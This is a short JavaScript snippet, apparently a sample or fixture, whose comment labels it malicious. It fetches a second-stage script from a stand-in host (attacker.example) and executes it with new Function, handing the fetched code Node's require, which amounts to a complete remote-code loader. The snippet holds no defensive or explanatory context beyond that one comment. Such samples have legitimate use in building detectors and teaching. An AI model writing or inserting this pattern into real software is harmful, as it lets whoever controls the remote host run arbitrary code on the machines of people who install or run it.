// Malicious: fetches remote code and runs it with new Function.
fetch('https://attacker.example/stage2.js')
  .then((r) => r.text())
  .then((code) => new Function('require', code)(require));
